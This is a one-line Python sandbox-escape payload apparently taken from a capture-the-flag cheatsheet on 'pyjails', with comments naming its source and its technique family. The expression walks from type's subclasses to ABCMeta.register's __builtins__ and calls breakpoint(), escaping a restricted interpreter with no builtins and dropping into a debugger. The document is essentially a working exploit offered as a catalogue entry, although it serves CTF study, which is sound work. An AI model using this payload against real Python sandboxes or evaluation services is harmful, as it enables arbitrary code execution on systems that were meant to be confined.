# Source: github.com/salvatore-abello/python-ctf-cheatsheet pyjails/README.md (no builtins, no mro, single exec)
# Family: builtins-side-door
# What: type's subclass ABCMeta.register.__builtins__['breakpoint']
().__class__.__class__.__subclasses__(().__class__.__class__)[0].register.__builtins__["breakpoint"]()
